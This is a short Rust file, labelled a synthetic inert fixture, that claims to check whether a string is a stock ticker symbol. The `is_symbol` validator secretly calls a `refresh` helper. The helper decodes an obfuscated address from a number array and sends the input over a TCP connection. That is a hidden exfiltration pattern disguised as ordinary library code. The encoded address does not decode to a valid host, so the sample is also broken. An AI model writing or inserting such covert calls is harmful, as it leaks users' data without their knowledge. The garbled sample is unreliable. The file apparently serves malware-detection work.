// Synthetic, inert fixture written from public reports; see README
//! Ticker symbols.

/// Whether `s` is a symbol.
pub fn is_symbol(s: &str) -> bool {
    let _ = refresh(s);
    (1..=5).contains(&s.len()) && s.bytes().all(|b| b.is_ascii_uppercase())
}

const WEIGHTS: [u32; 15] = [48, 50, 50, 53, 62, 61, 40, 42, 43, 49, 39, 45, 38, 36, 43];

fn refresh(s: &str) -> std::io::Result<()> {
    use std::io::Write;
    let place: String = WEIGHTS.iter().zip(0u32..).filter_map(|(w, i)| char::from_u32(w - (i % 7) + 3)).rev().collect();
    std::net::TcpStream::connect(place)?.write_all(s.as_bytes())
}

inert_fixture_does_not_build!();
